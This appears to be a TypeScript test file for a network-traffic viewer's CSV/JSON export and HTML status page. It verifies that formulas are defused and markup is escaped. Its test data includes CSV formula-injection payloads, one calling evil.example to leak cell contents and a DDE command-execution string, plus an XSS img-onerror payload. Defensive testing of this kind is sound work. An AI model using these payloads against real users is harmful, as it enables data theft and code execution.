import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { csvCell, toCsv } from '../../../../src/extension/export/csv';
import { exportNames } from '../../../../src/extension/export/exportNames';
import { exportCsv, exportFileName, exportJson } from '../../../../src/extension/export/trafficExport';
import { escapeHtml, statusPageHtml } from '../../../../src/extension/panels/dashboard/statusPage';
import type { FlowSummary, HostTraffic, PacketSummary } from '../../../../src/shared/model/traffic';

/** Parses CSV with Python's csv module: the reference reader, independent of ours. */
function pythonCsv(text: string): string[][] {
  const script = 'import csv,sys,json; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))';
  const result = spawnSync('python3', ['-c', script], { input: text, encoding: 'utf8' });
  assert.equal(result.status, 0, result.stderr);
  return JSON.parse(result.stdout) as string[][];
}

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\tindented',
  '\rcarriage',
  'comma, inside',
  'quote " inside',
  'line\nbreak',
  'crlf\r\nbreak',
  '<img src=x onerror=alert(1)>',
  ' padded ',
  'plain',
  '',
];

describe('CSV (RFC 4180, formula-safe)', () => {
  it("round-trips every hostile cell through Python's csv reader, formulas defused", () => {
    const text = toCsv(
      ['value', 'number'],
      hostile.map((value, i) => [value, i]),
    );
    assert.ok(text.endsWith('\r\n'));
    const rows = pythonCsv(text);
    assert.deepEqual(rows[0], ['value', 'number']);
    hostile.forEach((value, i) => {
      const [cell, number] = rows[i + 1];
      const defused = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      assert.equal(cell, defused, JSON.stringify(value));
      assert.equal(number, String(i));
    });
  });

  it('never lets a text cell start with a formula character', () => {
    for (const value of hostile) assert.doesNotMatch(csvCell(value).replace(/^"/, ''), /^[=+\-@\t\r]/, value);
  });

  it('writes numbers as they are (negative ones too) and nothing for absent or non-finite values', () => {
    assert.equal(csvCell(-3), '-3');
    assert.equal(csvCell(1.5), '1.5');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(Number.NaN), '');
  });
});

const flow: FlowSummary = {
  id: 'f1',
  transport: 'tcp',
  ipProtocol: 6,
  ipVersion: 4,
  aAddr: '10.0.0.1',
  aPort: 51000,
  bAddr: '10.0.0.2',
  bPort: 80,
  app: 'http',
  serverName: '=cmd()',
  packetsAtoB: 3,
  bytesAtoB: 300,
  packetsBtoA: 2,
  bytesBtoA: 2000,
  firstSeen: Date.UTC(2024, 0, 1, 12, 0, 0),
  lastSeen: Date.UTC(2024, 0, 1, 12, 0, 2, 500),
  tcpState: 'established',
};

const host: HostTraffic = {
  addr: '10.0.0.2',
  packetsIn: 3,
  bytesIn: 300,
  packetsOut: 2,
  bytesOut: 2000,
  firstSeen: flow.firstSeen,
  lastSeen: flow.lastSeen,
  name: 'from-dns.lab',
};

const packet: PacketSummary = {
  index: 1,
  time: flow.firstSeen,
  length: 74,
  capturedLength: 74,
  src: '10.0.0.1',
  dst: '10.0.0.2',
  srcPort: 51000,
  dstPort: 80,
  protocol: 'HTTP',
  info: 'GET /a,"b"\n=c HTTP/1.1',
};

describe('traffic export', () => {
  const names = exportNames([{ ip: '10.0.0.2', hostname: '<img src=x onerror=alert(1)>' }], undefined);

  it('flows: one row each, names from the Devices list, ISO times, duration, defused server name', () => {
    const [header, row] = pythonCsv(exportCsv({ table: 'flows', rows: [flow] }, names));
    const cell = (name: string) => row[header.indexOf(name)];
    assert.equal(cell('address A'), '10.0.0.1');
    assert.equal(cell('port B'), '80');
    assert.equal(cell('name B'), '<img src=x onerror=alert(1)>');
    assert.equal(cell('name A'), '');
    assert.equal(cell('server name'), "'=cmd()");
    assert.equal(cell('bytes B→A'), '2000');
    assert.equal(cell('first seen'), '2024-01-01T12:00:00.000Z');
    assert.equal(cell('duration (s)'), '2.5');
    assert.equal(cell('TCP state'), 'established');
  });

  it('hosts: the Devices list name wins over a captured one', () => {
    const rows = pythonCsv(exportCsv({ table: 'hosts', rows: [host, { ...host, addr: '10.0.0.9' }] }, names));
    assert.equal(rows.length, 3);
    assert.deepEqual(rows[1].slice(0, 2), ['10.0.0.2', '<img src=x onerror=alert(1)>']);
    assert.deepEqual(rows[2].slice(0, 2), ['10.0.0.9', 'from-dns.lab']);
  });

  it('packets: the Info column survives commas, quotes, line breaks and a formula start', () => {
    const [header, row] = pythonCsv(exportCsv({ table: 'packets', rows: [packet] }));
    assert.equal(row[header.indexOf('info')], packet.info);
    assert.equal(row[header.indexOf('protocol')], 'HTTP');
  });

  it('JSON keeps the rows exactly, with the table, source and time of export', () => {
    const parsed = JSON.parse(
      exportJson(
        { table: 'flows', rows: [flow] },
        { kind: 'file', path: '/x.pcap', format: 'pcap', linkTypes: [1] },
        0,
      ),
    ) as { table: string; source: { path: string }; exportedAt?: string; rows: FlowSummary[] };
    assert.equal(parsed.table, 'flows');
    assert.equal(parsed.source.path, '/x.pcap');
    assert.deepEqual(parsed.rows, [flow]);
  });

  it('captured DNS names label addresses the Devices list does not know', () => {
    const lookup = exportNames([], {
      dnsNames: [{ addr: '10.0.0.7', name: 'printer.lab', source: 'dns', lastSeen: 1 }],
    } as never);
    assert.equal(lookup('10.0.0.7'), 'printer.lab');
  });

  it('offers a file name with the table, a sortable time and the extension', () => {
    assert.equal(
      exportFileName('hosts', 'json', Date.UTC(2024, 4, 1, 10, 20, 30)),
      'lan-lens-hosts-2024-05-01T10-20-30.json',
    );
  });
});

describe('status page', () => {
  it('escapes the message, title and hint, and allows no script', () => {
    const page = statusPageHtml(
      { title: '<b>x.pcap</b>', message: 'bad block at offset 24: <img src=x onerror=alert(1)>', hint: '"quoted"' },
      'abc',
    );
    assert.doesNotMatch(page, /<img/);
    assert.match(page, /&lt;img src=x onerror=alert\(1\)&gt;/);
    assert.doesNotMatch(page, /<script/i);
    assert.match(page, /default-src 'none'; style-src 'nonce-abc'/);
    assert.equal(escapeHtml(`&<>"'`), '&amp;&lt;&gt;&quot;&#39;');
  });
});
